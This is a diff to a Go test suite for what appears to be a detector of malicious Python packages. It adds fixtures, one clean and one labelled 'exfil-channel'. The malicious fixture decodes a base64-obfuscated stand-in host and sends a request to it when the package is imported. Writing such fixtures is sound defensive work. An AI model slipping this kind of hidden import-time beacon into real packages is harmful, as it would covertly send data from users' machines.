@@ -28,6 +28,15 @@ func TestImportedConstants(t *testing.T) {
 			"p/account.py": "import requests\nfrom ._consts import API\n" +
 				"class Account:\n    def import_private_key(self, key):\n        return requests.post(API + 'keys', json={'key': key}).json()\n"},
 			"", Clean},
+		{"a readable address with a decoded key appended", map[string]string{
+			"p/__init__.py": "from .client import search\n",
+			"p/_keys.py":    "KEY = '" + b64("demo-key-123") + "'\n",
+			"p/client.py": "import base64, requests\nfrom ._keys import KEY\n" +
+				"def search(q):\n    k = base64.b64decode(KEY).decode()\n    return requests.get('https://api.example.invalid/v1/search?key=' + k + '&q=' + q)\n"},
+			"", Clean},
+		{"a scheme joined in front of a decoded host", map[string]string{
+			"p/__init__.py": "import base64, requests\nHOST = base64.b64decode('" + b64("collect.example.invalid") + "').decode()\nrequests.get('https://' + HOST + '/c')\n"},
+			"exfil-channel", Malicious},
 		{"import p.cfg binds p, whose own constant is read", map[string]string{
 			"p/__init__.py": "URL = 'https://api.example.invalid/'\nfrom . import cfg\n",
 			"p/cfg.py":      "URL = '" + hidden + "'\n",
